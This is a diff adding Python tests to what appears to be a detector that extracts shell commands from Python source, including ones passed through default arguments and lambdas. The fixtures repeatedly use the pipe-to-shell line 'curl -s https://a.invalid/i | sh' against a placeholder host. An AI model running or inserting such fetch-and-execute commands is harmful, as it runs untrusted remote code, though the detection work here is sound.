@@ -128,3 +128,20 @@ def test_what_a_shell_is_given_to_read_is_its_command() -> None:
         subprocess.run(["grep", "x"], input=text)
     """
     assert _scripts(source) == ["curl -s https://a.invalid | sh\nbash -s\ngrep x"]
+
+
+def test_what_a_parameter_is_unless_given_is_started_too() -> None:
+    source = """
+    import os
+    def f(say, line="curl -s https://a.invalid/i | sh", *, quiet=False):
+        os.system(line)
+    """
+    assert _scripts(source) == ["curl -s https://a.invalid/i | sh"]
+
+
+def test_a_lambda_is_called_where_it_stands() -> None:
+    source = """
+    import os
+    (lambda line: os.system(line))("curl -s https://a.invalid/i | sh")
+    """
+    assert _scripts(source) == ["curl -s https://a.invalid/i | sh"]
